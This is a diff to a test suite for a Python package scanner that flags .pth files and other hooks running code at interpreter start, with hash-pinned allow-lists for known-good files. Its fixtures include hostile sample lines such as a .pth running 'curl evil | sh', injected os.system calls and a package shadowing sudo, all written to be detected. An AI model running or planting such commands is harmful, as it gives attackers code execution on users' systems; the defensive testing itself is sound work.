@@ -374,14 +374,15 @@ describe('static.pth-exec', () => {
       '',
     ].join('\n');
     const result = await scan(dist('evil', { 'evil.pth': pth }));
+    const allow = { name: 'evil.pth', sha256: sha(pth).hex, distribution: 'evil' };
 
     expect(result.findings).toEqual([
       {
         rule: 'static.pth-exec',
         severity: 'high',
         package: 'evil',
-        message: 'evil.pth has lines that run at every interpreter start',
-        evidence: { path: 'evil.pth', lines: ['import os; os.system("id")', long.slice(0, 200), 'import\tsys'] },
+        message: `evil.pth has lines that run at every interpreter start; once reviewed, accept exactly this file with "knownGoodPth": [${JSON.stringify(allow)}]`,
+        evidence: { path: 'evil.pth', lines: ['import os; os.system("id")', long.slice(0, 200), 'import\tsys'], allow },
       },
       {
         // ' import indented_is_a_path' is a path line too, but it stays inside site-packages.
@@ -405,15 +406,126 @@ describe('static.pth-exec', () => {
       expect.objectContaining({
         rule: 'static.pth-exec',
         package: 'setuptools',
-        evidence: { path: 'distutils-precedence.pth', lines: ["import os; os.system('curl evil | sh')"] },
+        evidence: expect.objectContaining({ path: 'distutils-precedence.pth', lines: ["import os; os.system('curl evil | sh')"] }),
       }),
     ]);
 
     // The genuine content under another name is not known-good either.
     const renamed = await scan(dist('setuptools', { 'other.pth': SETUPTOOLS_PTH }), { knownGoodPth });
     expect(renamed.findings).toEqual([
-      expect.objectContaining({ rule: 'static.pth-exec', package: 'setuptools', evidence: { path: 'other.pth', lines: [SETUPTOOLS_PTH.slice(0, -1)] } }),
+      expect.objectContaining({
+        rule: 'static.pth-exec',
+        package: 'setuptools',
+        evidence: expect.objectContaining({ path: 'other.pth', lines: [SETUPTOOLS_PTH.slice(0, -1)] }),
+      }),
     ]);
+  });
+
+  describe('an entry with an owner and the code the lines import', () => {
+    const HACK = 'def add_shim():\n    pass\n';
+    const entry = {
+      name: 'distutils-precedence.pth',
+      sha256: SETUPTOOLS_PTH_SHA,
+      distribution: 'setuptools',
+      imports: [{ path: '_distutils_hack/__init__.py', sha256: sha(HACK).hex }],
+    };
+    const setuptools = (hack: string, name = 'setuptools') =>
+      dist(name, { 'distutils-precedence.pth': SETUPTOOLS_PTH, '_distutils_hack/__init__.py': hack, '_distutils_hack/override.py': 'x = 1\n' });
+
+    it('accepts the file from its distribution, importing the code it names, as it names it', async () => {
+      expect((await scan(setuptools(HACK), { knownGoodPth: [entry] })).findings).toEqual([]);
+    });
+
+    it('refuses it when the imported module changed, and prints the entry that would accept what is there', async () => {
+      const changed = "import os; os.system('id')\n";
+      const result = await scan(setuptools(changed), { knownGoodPth: [entry] });
+      const allow = { ...entry, imports: [{ path: '_distutils_hack/__init__.py', sha256: sha(changed).hex }] };
+      expect(result.findings).toEqual([
+        expect.objectContaining({
+          rule: 'static.pth-exec',
+          package: 'setuptools',
+          message: expect.stringContaining(`"knownGoodPth": [${JSON.stringify(allow)}]`),
+          evidence: expect.objectContaining({ path: 'distutils-precedence.pth', allow }),
+        }),
+      ]);
+    });
+
+    it('refuses the same bytes from another distribution', async () => {
+      const result = await scan(setuptools(HACK, 'setuptoolz'), { knownGoodPth: [entry] });
+      expect(result.findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec', package: 'setuptoolz' })]);
+    });
+
+    it('refuses it when a file the entry lists is not there, and when the lines import a module of theirs the entry does not list', async () => {
+      const without = dist('setuptools', { 'distutils-precedence.pth': SETUPTOOLS_PTH });
+      expect((await scan(without, { knownGoodPth: [entry] })).findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec', package: 'setuptools' })]);
+      const unlisted = { ...entry, imports: [] };
+      expect((await scan(setuptools(HACK), { knownGoodPth: [unlisted] })).findings).toEqual([
+        expect.objectContaining({ rule: 'static.pth-exec', evidence: expect.objectContaining({ allow: entry }) }),
+      ]);
+    });
+
+    it('counts an extension module and a package imported by a plain import statement', async () => {
+      const pth = 'import boot, helper.sub\n';
+      const files = { 'boot.pth': pth, 'boot.cpython-311-x86_64-linux-gnu.so': 'ELF', 'helper/__init__.py': 'H = 1\n', 'helper/sub.py': '' };
+      const result = await scan(dist('boot', files));
+      expect(result.findings[0]?.evidence.allow).toEqual({
+        name: 'boot.pth',
+        sha256: sha(pth).hex,
+        distribution: 'boot',
+        imports: [
+          { path: 'boot.cpython-311-x86_64-linux-gnu.so', sha256: sha('ELF').hex },
+          { path: 'helper/__init__.py', sha256: sha('H = 1\n').hex },
+        ],
+      });
+    });
+
+    it('scans the directories an accepted entry says its code adds to sys.path as import roots', async () => {
+      const boot = 'import sys; sys.path.append("x")\n';
+      const pth = 'import prefix_boot\n';
+      const cmeel = {
+        name: 'prefix.pth',
+        sha256: sha(pth).hex,
+        distribution: 'prefixer',
+        imports: [{ path: 'prefix_boot.py', sha256: sha(boot).hex }],
+        adds: ['prefix/lib/python3.11/site-packages'],
+      };
+      const entries = [
+        ...dist('prefixer', { 'prefix.pth': pth, 'prefix_boot.py': boot }),
+        ...dist('robot', { 'prefix/lib/python3.11/site-packages/sitecustomize.py': 'import os\n' }),
+      ];
+      const result = await scan(entries, { knownGoodPth: [cmeel] });
+      expect(result.findings.map((f) => [f.rule, f.package, f.evidence.path])).toEqual([
+        ['static.startup-hook', 'robot', 'prefix/lib/python3.11/site-packages/sitecustomize.py'],
+      ]);
+    });
+  });
+
+  describe("setuptools' namespace-package template", () => {
+    // As setuptools writes it (sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth on PyPI).
+    const NSPKG =
+      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
+    const NESTED =
+      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('a.b', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a.b', [os.path.dirname(p)])));m = m or sys.modules.setdefault('a.b', types.ModuleType('a.b'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n";
+    const jsmath = (pth: string, name = 'sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth') =>
+      dist('sphinxcontrib_jsmath', { [name]: pth, 'sphinxcontrib/jsmath/__init__.py': '' });
+
+    it('accepts the exact template for a namespace whose directory the same distribution installs into, nested too', async () => {
+      expect((await scan(jsmath(NSPKG))).findings).toEqual([]);
+      expect((await scan(dist('a_b', { 'a_b-1.0-nspkg.pth': NESTED, 'a/b/c/__init__.py': '' }))).findings).toEqual([]);
+    });
+
+    it('refuses a line that differs from the template in one character, a namespace the distribution does not install into, and another file name', async () => {
+      const altered = NSPKG.replace('mp.append(p)', 'mp.append(p);os.system("id")');
+      const cases = [
+        jsmath(altered),
+        dist('other', { 'other-1.0-nspkg.pth': NSPKG, 'other/__init__.py': '' }),
+        jsmath(NSPKG, 'sphinxcontrib_jsmath.pth'),
+        jsmath(`${NSPKG}import os; os.system("id")\n`),
+      ];
+      for (const entries of cases) {
+        expect((await scan(entries)).findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec' })]);
+      }
+    });
   });
 
   it('accepts a .pth that only adds paths inside site-packages, and ignores .pth files below the top level', async () => {
@@ -501,6 +613,23 @@ describe('static.script-shadowing', () => {
       },
       expect.objectContaining({ rule: 'static.script-shadowing', package: 'sneaky', evidence: { script: 'sudo', recordPath: '../../../bin/sudo' } }),
     ]);
+  });
+
+  it("accepts a tool's own scripts from the tool's distribution only", async () => {
+    const pip = dist(
+      'pip',
+      { 'pip/__init__.py': '' },
+      {
+        entryPoints: '[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip._internal.cli.main:main\n',
+        outside: { '../../../bin/pip3.11': '#!/opt/target/bin/python\n' },
+      },
+    );
+    const impostor = dist('pipp', { 'pipp/__init__.py': '' }, { entryPoints: '[console_scripts]\npip = pipp:main\n' });
+    const knownGoodScripts = [{ distribution: 'pip', scripts: ['pip', 'pip3', 'pip3.11'] }];
+    expect((await scan([...pip, ...impostor], { knownGoodScripts })).findings).toEqual([
+      expect.objectContaining({ rule: 'static.script-shadowing', package: 'pipp', evidence: expect.objectContaining({ script: 'pip' }) }),
+    ]);
+    expect((await scan(pip)).findings.map((f) => f.evidence.script)).toEqual(['pip', 'pip3', 'pip3.11']);
   });
 
   it('reads gui scripts and takes the shadow list from the options when given', async () => {
@@ -990,7 +1119,13 @@ describe('static.stdlib-shadowing', () => {
   it('says nothing of benign trees: setuptools, namespace dirs, names that merely start like the standard library', async () => {
     const SETUPTOOLS_PTH =
       "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
-    const knownGoodPth = [{ name: 'distutils-precedence.pth', sha256: '2638ce9e2500e572a5e0de7faed6661eb569d1b696fcba07b0dd223da5f5d224' }];
+    const knownGoodPth = [
+      {
+        name: 'distutils-precedence.pth',
+        sha256: '2638ce9e2500e572a5e0de7faed6661eb569d1b696fcba07b0dd223da5f5d224',
+        imports: [{ path: '_distutils_hack/__init__.py', sha256: sha('').hex }],
+      },
+    ];
     const result = await scan(
       [
         ...dist('setuptools', {
